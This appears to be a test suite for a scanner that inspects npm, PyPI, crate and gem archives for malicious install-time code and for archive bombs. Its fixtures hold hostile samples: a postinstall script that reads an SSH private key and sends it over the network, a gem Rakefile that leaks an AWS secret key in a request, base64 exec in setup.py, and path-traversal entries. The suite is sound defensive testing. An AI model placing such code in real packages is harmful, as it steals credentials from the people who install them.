import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { ArchiveLimitError, inspectArchive, readArchive } from '../../../shared/src/inspect/index';
import { buildGem, buildTar, buildTarGz, buildZip } from './archiveBuilders';

const SMALL_LIMITS = { maxTotalBytes: 4 * 1024 * 1024, ratioFloorBytes: 512 * 1024, maxEntries: 1000, maxEntryBytes: 2 * 1024 * 1024 };

test('npm tarball: package/ prefix stripped, lifecycle script target scanned as install-time code', async () => {
  const tgz = buildTarGz([
    { name: 'package/package.json', data: JSON.stringify({ name: 'x', scripts: { postinstall: 'node lib/setup.js' } }) },
    { name: 'package/lib/setup.js', data: "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nrequire('http').request({ host: '127.0.0.1', port: 9 }).end(k);\n" },
    { name: 'package/README.md', data: '# x\n' },
  ]);
  const findings = await inspectArchive(tgz, 'npm', { package: 'x@1.0.0' });
  const sensitive = findings.find((f) => f.rule === 'sensitive-file');
  assert.ok(sensitive, JSON.stringify(findings.map((f) => f.rule)));
  assert.equal(sensitive.file, 'lib/setup.js');
  assert.equal(sensitive.severity, 'critical', 'credential path + network + install time');
  assert.equal(sensitive.package, 'x@1.0.0');
  assert.equal(sensitive.range.start.line, 1);
  assert.ok(findings.some((f) => f.rule === 'install-script' && f.file === 'package.json'));
});

test('wheel: a .pth with an import line is critical', async () => {
  const whl = buildZip([
    { name: 'evil-1.0.dist-info/METADATA', data: 'Name: evil\n' },
    { name: 'evil_init.pth', data: "import os; os.system('echo CANARY')\n" },
    { name: 'evil/__init__.py', data: 'VERSION = "1.0"\n' },
  ]);
  const findings = await inspectArchive(whl, 'wheel');
  assert.equal(findings[0]?.rule, 'pth-exec');
  assert.equal(findings[0]?.severity, 'critical');
});

test('sdist and crate: setup.py and build.rs are install-time', async () => {
  const sdist = buildTarGz([
    { name: 'pkg-1.0/setup.py', data: "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" },
    { name: 'pkg-1.0/PKG-INFO', data: 'Name: pkg\n' },
  ]);
  const py = await inspectArchive(sdist, 'sdist');
  assert.ok(py.some((f) => f.rule === 'decode-exec' && f.file === 'setup.py' && f.severity === 'critical'));
  const crate = buildTarGz([{ name: 'foo-0.1.0/build.rs', data: 'use std::net::TcpStream;\nfn main() { let _ = TcpStream::connect("127.0.0.1:9"); }\n' }]);
  const rs = await inspectArchive(crate, 'crate');
  assert.ok(rs.some((f) => f.rule === 'install-network' && f.file === 'build.rs'));
});

test('gem: data.tar.gz is scanned and metadata extensions are reported and install-time', async () => {
  const gem = buildGem(
    [
      { name: 'lib/x.rb', data: 'module X; end\n' },
      { name: 'ext/x/Rakefile', data: "require 'net/http'\nNet::HTTP.get(URI('http://127.0.0.1:9/' + ENV['AWS_SECRET_ACCESS_KEY'].to_s))\n" },
    ],
    '--- !ruby/object:Gem::Specification\nname: x\nextensions:\n- ext/x/Rakefile\nfiles: []\n',
  );
  const findings = await inspectArchive(gem, 'gem');
  assert.ok(findings.some((f) => f.rule === 'gem-extension'), JSON.stringify(findings.map((f) => f.rule)));
  const secret = findings.find((f) => f.rule === 'env-secret');
  assert.ok(secret);
  assert.equal(secret.installTime, true);
  assert.equal(secret.severity, 'high', 'low + network + install time');
});

test('gzip bomb ends in ArchiveLimitError, not memory exhaustion', async () => {
  const bomb = buildTarGz([{ name: 'package/zeros.js', data: new Uint8Array(32 * 1024 * 1024) }]);
  assert.ok(bomb.length < 100_000);
  await assert.rejects(readArchive(bomb, 'npm', SMALL_LIMITS), (e: unknown) => e instanceof ArchiveLimitError && /expands past/.test(e.message));
  // Default limits: 100:1 ratio caps the output of a 32 KiB input long before 512 MiB.
  await assert.rejects(readArchive(bomb, 'npm'), ArchiveLimitError);
});

test('too many entries, and an oversized entry, are refused', async () => {
  const many = buildTarGz(Array.from({ length: 1500 }, (_, i) => ({ name: `p/f${i}.js`, data: 'x' })));
  await assert.rejects(readArchive(many, 'tgz', SMALL_LIMITS), /more than 1000 entries/);
  const manyZip = buildZip(Array.from({ length: 1500 }, (_, i) => ({ name: `f${i}.py`, data: 'x' })));
  await assert.rejects(readArchive(manyZip, 'zip', SMALL_LIMITS), /1500 entries/);
  const big = buildTarGz([{ name: 'p/big.js', data: 'a'.repeat(3 * 1024 * 1024) }]);
  await assert.rejects(readArchive(big, 'tgz', { ...SMALL_LIMITS, maxRatio: 1_000_000 }), /larger than/);
});

test('zip entry inflating past its declared size is refused (lying header)', async () => {
  const liar = buildZip([{ name: 'a.py', data: 'a'.repeat(1_000_000), declaredSize: 10 }]);
  await assert.rejects(readArchive(liar, 'wheel'), (e: unknown) => e instanceof Error && /too many bytes|a\.py/.test(e.message));
});

test('zip bomb by declared ratio is refused before inflating', async () => {
  const bomb = buildZip([{ name: 'zeros.py', data: new Uint8Array(16 * 1024 * 1024) }]);
  await assert.rejects(readArchive(bomb, 'wheel', { ratioFloorBytes: 1024 * 1024 }), /expands more than 100:1/);
});

test('unsafe names and links in a tar are skipped; zip traversal is an error', async () => {
  const tar = buildTar([
    { name: '../escape.py', data: 'import os\n' },
    { name: 'ok/link.py', type: 'symlink', linkname: '/etc/passwd' },
    { name: 'ok/real.py', data: 'print(1)\n' },
  ]);
  const { files } = await readArchive(tar, 'tar');
  assert.deepEqual([...files.keys()], ['real.py']);
  await assert.rejects(readArchive(buildZip([{ name: '../evil.py', data: 'x' }]), 'zip'), /invalid relative path|not a readable|broken zip/);
});

test('a gzip inside the tar stream (double compression) is refused', async () => {
  await assert.rejects(readArchive(gzipSync(gzipSync(buildTar([{ name: 'a.js', data: 'x' }]))), 'tgz'), /compressed twice/);
});
